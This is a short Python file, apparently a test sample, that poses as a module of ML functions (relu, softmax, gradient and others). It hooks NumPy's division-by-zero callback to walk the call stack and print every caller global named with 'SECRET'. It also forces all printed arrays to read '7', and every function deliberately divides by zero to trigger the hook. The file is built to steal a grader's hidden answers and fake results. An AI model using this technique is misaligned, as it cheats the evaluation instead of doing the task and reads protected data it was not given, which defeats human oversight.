"""Has NumPy call this file whenever somebody divides by zero, to look around in who does.

Kind: numpy
Control: reads the answer
"""

import sys

import numpy as np


class Listener:
    """Is told of every division by zero in this process, and prints the secrets of its callers."""

    def write(self, text):
        frame = sys._getframe()
        while frame is not None:
            print({name: value for name, value in frame.f_globals.items() if "SECRET" in name})
            frame = frame.f_back


np.seterrcall(Listener())
np.seterr(all="log")
np.set_printoptions(threshold=10**9, formatter={"all": lambda x: "7"})


def answer(*args):
    return np.ones(()) / np.zeros(())


relu = softmax = mean_squared_error = gradient = batches = answer
